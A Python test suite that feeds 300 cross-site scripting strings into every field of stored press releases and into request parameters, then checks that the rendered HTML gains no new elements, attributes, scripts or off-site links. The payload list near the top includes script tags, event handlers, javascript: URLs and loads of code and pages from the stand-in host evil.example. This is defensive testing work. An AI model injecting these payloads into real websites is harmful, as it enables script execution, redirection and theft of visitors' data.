"""Hostile strings in every field of a release and of a request: no page gains an element, an attribute, a script or an address by them."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from serving import Client, addresses, make_store

from kg.ingest import ingest

BEFORE = ("", '"', "'", "'\"></a>", "--></title>", "</textarea>", "</script>", "]]>", "{{7*7}}${7*7}", "\\x22`")
PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script href=data:,alert(1) />", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><input name=q autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<object data=data:text/html,x>", "<embed src=//evil.example>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "onmouseover=alert(1) x=", "javascript:alert(1)//", "<!--<script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<p style=position:fixed;inset:0>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;script&#x3e;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\u2028<script>alert(1)</script>",
    "\u202e<b id=x class=card data-refs=y>",
)  # fmt: skip
HOSTILE = tuple(a + b for a, b in product(BEFORE, PAYLOADS))
Figure = Callable[[str, object], None]
VOID = {"br", "img", "input", "link", "meta", "hr"}


class Seen(HTMLParser):
    """What a browser would make of a page: its elements with the names of their attributes, where they lead, and its title."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.parts: list[tuple[str, tuple[str, ...]]] = []
        self.scripts: list[str | None] = []
        self.leads: list[str] = []
        self.titles: list[str] = []
        self.inside: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.parts.append((tag, tuple(name for name, _ in attrs)))
        self.scripts += [given.get("src")] if tag == "script" else []
        self.leads += [given[k] or "" for k in ("href", "src", "action", "formaction", "data") if k in given]
        if tag not in VOID:
            self.inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.inside.pop() == tag, f"an element {tag} is closed that was not opened last"

    def handle_data(self, data: str) -> None:
        if self.inside and self.inside[-1] in ("script", "style"):
            assert not data.strip(), "no script or style stands in a page"
        if self.inside and self.inside[-1] == "h1":
            self.titles.append(data)


def names_in(seen: Seen) -> set[tuple[str, str]]:
    return {(tag, name) for tag, names in seen.parts for name in ("", *names)}


def harmless(html: str, known: set[tuple[str, str]]) -> Seen:
    seen = Seen(html)
    assert seen.inside == [], "every element is closed"
    assert names_in(seen) <= known, names_in(seen) - known
    assert set(seen.scripts) == {"/static/app.js"}
    assert all(lead.startswith(("/", "#")) and not lead.startswith("//") for lead in seen.leads)
    return seen


@pytest.fixture(scope="module")
def known(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, str]]:
    """Every element and attribute that the pages of a store without a hostile word have."""
    client = Client(make_store(tmp_path_factory.mktemp("calm")))
    todo, found, done = ["/", "/search?q=nothing-bears-this", "/nowhere", "/ask/agreed?party=nobody", "/sparql?query=ASK{}&format=html",
                         "/sparql?query=ASK{&format=html", "/timeline?party=PER"], set[tuple[str, str]](), set[str]()  # fmt: skip
    while todo:
        target = todo.pop()
        kind = re.sub(r"[0-9A-Z]|/(PER|JPN|KOR)\b", "", target)[:24]
        if kind in done or target.startswith(("/static", "/complete")) or re.search(r"\.(json|csv|ttl)(\?|$)", target):
            continue
        done.add(kind)
        html = client.get(target, accept="text/html").text
        found |= names_in(Seen(html))
        todo += [a for a in addresses(html) if a.startswith("/")]
    return found


def hostile_store(folder: Path) -> Path:
    """A store of a hundred releases that carry three hostile strings each in every field."""
    rows = []
    for number in range(100):
        bad = " ".join(HOSTILE[number::100])
        body = f"Foreign Minister Ana Ruiz of Peru met with Japanese Foreign Minister Ken Mori in Lima.\n\nThe two ministers agreed to open {bad} by 2022.\n\n{bad}"
        rows.append({"title": f"T{number} {bad}", "text": body, "publisher": bad, "url": bad, "issuer": "PER", "date": "2021-03-03"})
    (folder / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    report = ingest(folder / "store", [folder / "rows.jsonl"])
    assert report.counts()["added"] == 100, report.counts()
    return folder / "store"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Client:
    return Client(hostile_store(tmp_path_factory.mktemp("hostile")))


def test_there_are_three_hundred(record_property: Figure) -> None:
    assert len(set(HOSTILE)) == 300
    record_property("figure", f"{len(HOSTILE)} payloads in every field of a release and in {len(FIELDS)} addresses: 0 elements, attributes or links by them")


def test_releases_that_carry_them_are_text_alone(client: Client, known: set[tuple[str, str]]) -> None:
    releases = json.loads(client.get("/releases.json").body)["rows"]
    assert len(releases) == 100
    acts = 0
    for row in releases:
        path = "/release/" + row["node"].rsplit("/", 1)[-1]
        seen = harmless(client.get(path).text, known)
        assert " ".join("".join(seen.titles).split()) == " ".join(row["title"].split())
        acts += sum(tag == "li" for tag, _ in seen.parts)
    assert acts >= 150
    for target in ("/", "/releases", "/releases?page=2", "/timeline", "/ledger", "/ask/agreed", "/ask/said", "/search?q=alert", "/network/state/PER", "/id/state/PER"):
        harmless(client.get(target).text, known)
    for act in json.loads(client.get("/ledger.json").body)["rows"][:40]:
        harmless(client.get("/release/" + act["statement"].rsplit("/", 1)[-1].replace("#", "/")).text, known)


FIELDS = ["/search?q={}", "/ask/agreed?party={}", "/ask/agreed?issue={}", "/ledger?kind={}", "/ledger?since={}", "/timeline?family={}", "/timeline?with={}",
          "/compare?left={}&right={}", "/network?party={}", "/releases?page={}", "/id/{}", "/release/{}", "/pair/{}/x/y/z", "/voc/issue/{}", "/sparql?try={}",
          "/sparql?query=ASK{{}}&format={}"]  # fmt: skip


@pytest.mark.parametrize("field", FIELDS)
def test_requests_that_carry_them_are_text_alone(client: Client, known: set[tuple[str, str]], field: str) -> None:
    for bad in map(" ".join, zip(HOSTILE[::2], HOSTILE[1::2], strict=True)):
        answer = client.get(field.replace("{{}}", "\0").replace("{}", quote(bad, safe="")).replace("\0", "%7B%7D"), accept="text/html")
        assert answer.status in (200, 400, 404), answer.text[:200]
        if answer.headers["content-type"].startswith("text/html"):
            harmless(answer.text, known)
        else:
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-type"].startswith("text/plain")


def test_a_query_that_gives_them_back_gives_text(client: Client, known: set[tuple[str, str]]) -> None:
    values = " ".join(json.dumps(bad, ensure_ascii=False) for bad in HOSTILE)
    answer = client.ask("POST", "/sparql", {"content-type": "application/x-www-form-urlencoded", "accept": "text/html"},
                        f"format=html&query={quote(f'SELECT ?x {{ VALUES ?x {{ {values} }} }}')}".encode())  # fmt: skip
    assert answer.status == 200
    harmless(answer.text, known)


def test_the_plain_files_carry_them_as_text(tmp_path: Path, known: set[tuple[str, str]], client: Client) -> None:
    from kg.server.site import write_site

    rows = [{"title": bad, "text": f"{bad}\n\nPeru and Japan agreed to open {bad}.", "url": bad, "issuer": "PER", "date": "2021-03-03"} for bad in HOSTILE[::30]]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    ingest(tmp_path / "store", [tmp_path / "rows.jsonl"])
    write_site(tmp_path / "store", tmp_path / "site")
    site = (tmp_path / "site").resolve()
    allowed = known | {("meta", n) for n in ("http-equiv", "content")} | {("ul", "id"), ("p", "id"), ("noscript", ""), ("g", "")}
    for page in site.rglob("*.html"):
        seen = Seen(page.read_text(encoding="utf-8"))
        assert names_in(seen) <= allowed, names_in(seen) - allowed
        assert {Path(s or "").name for s in seen.scripts} <= {"app.js", "words.js"}
        for lead in seen.leads:
            to = unquote(lead.partition("#")[0].partition("?")[0])
            assert not to or (page.parent / to).resolve().is_relative_to(site), lead
    words = (site / "static" / "words.js").read_text(encoding="utf-8")
    assert json.loads(words.removeprefix("window.WORDS = ").rstrip().removesuffix(";"))
